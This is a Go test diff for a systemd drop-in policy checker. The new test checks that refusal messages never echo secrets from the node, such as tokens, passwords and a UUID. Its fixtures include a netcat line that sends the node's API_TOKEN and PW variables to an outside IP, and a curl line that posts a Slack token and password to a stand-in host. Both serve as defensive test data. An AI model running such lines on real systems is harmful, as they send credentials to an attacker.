@@ -4,6 +4,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/coreos/ignition/v2/config/v3_5/types"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 )
@@ -28,6 +29,35 @@ func TestARefusedLineNeverQuotesItsCredential(t *testing.T) {
 				}
 				assert.Contains(t, r.Reason, "ExecStartPre=")
 				assert.Contains(t, r.Reason, tc.names)
+			}
+		})
+	}
+}
+
+// A refusal never quotes the node's own unit lines nor the node's values substituted into the
+// payload's (adversary r22 c/03: a one-line drop-in had the refusal quote the node's podman login
+// -p; c/04: ${API_TOKEN} of the node's Environment= came back substituted), nor a token the
+// redaction split at - or . (c/02: a UUID, a Slack token, a spelled password).
+func TestARefusalNamesTheNodesLinesWithoutTheirValues(t *testing.T) {
+	const pol = "nodeDisruptionPolicy:\n  units:\n  - name: myapp.service\n    actions: [{type: Restart, restart: {serviceName: myapp.service}}]\n"
+	secrets := []string{"3f2a9c0d-1e4b-4c5d-8e9f-0a1b2c3d4e5f", "Winter2024xyz", "xoxb-123456789012-1234567890123-AbCdEfGhIjKl", "p4ssw0rd.S3cr3t.T0k3n"}
+	node := map[string]string{"/etc/systemd/system/myapp.service": "[Service]\n" +
+		"Environment=API_TOKEN=" + secrets[0] + "\nEnvironment=PW=" + secrets[1] + "\n" +
+		"ExecStartPre=/usr/bin/podman login -u admin -p " + secrets[0] + " quay.io\nExecStart=/bin/sleep infinity\n"}
+	for name, dropin := range map[string]string{
+		"a trivial drop-in":      "[Service]\nExecStartPre=/bin/true\n",
+		"the node's variables":   "[Service]\nExecStartPre=/usr/bin/nc 1.2.3.4 80 ${API_TOKEN} ${PW}\n",
+		"tokens split at - or .": "[Service]\nExecStartPre=/usr/bin/curl -H \"X-Slack: " + secrets[2] + "\" -u " + secrets[3] + " http://x\n",
+	} {
+		t.Run(name, func(t *testing.T) {
+			des := withUnits(unit("myapp.service", nil, types.Dropin{Name: "50-x.conf", Contents: str(dropin)}))
+			p := rootBuild(t, pol, nodeRoot(t, node), plain(), des)
+			require.NotEmpty(t, p.Refused)
+			for _, r := range p.Refused {
+				for _, s := range secrets {
+					assert.NotContains(t, r.Reason, s)
+				}
+				assert.Contains(t, r.Reason, "ExecStartPre=/usr/bin/", "the line is still named by its program")
 			}
 		})
 	}
